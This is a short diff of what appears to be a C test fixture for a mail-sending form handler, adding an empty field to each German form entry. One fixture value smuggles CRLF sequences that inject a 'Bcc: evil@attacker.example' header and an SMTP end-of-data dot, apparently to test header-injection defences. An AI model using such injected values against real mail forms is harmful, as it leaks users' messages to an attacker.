@@ -127,10 +127,10 @@ static const unsigned char pdf[] =
 static unsigned char png[264];
 
 static struct sub_field fields[] = {
-	{ "vorname", "Vorname", "Jürgen" },
-	{ "nachname", "Nachname", "Groß" },
-	{ "hinweis", "Hinweis", "Zeile 1\r\nBcc: evil@attacker.example\r\n.\r\nZeile 4" },
-	{ "email", "E-Mail", "juergen@example.org" },
+	{ "vorname", "Vorname", "Jürgen", "" },
+	{ "nachname", "Nachname", "Groß", "" },
+	{ "hinweis", "Hinweis", "Zeile 1\r\nBcc: evil@attacker.example\r\n.\r\nZeile 4", "" },
+	{ "email", "E-Mail", "juergen@example.org", "" },
 };
 
 static struct sub_file files[2];
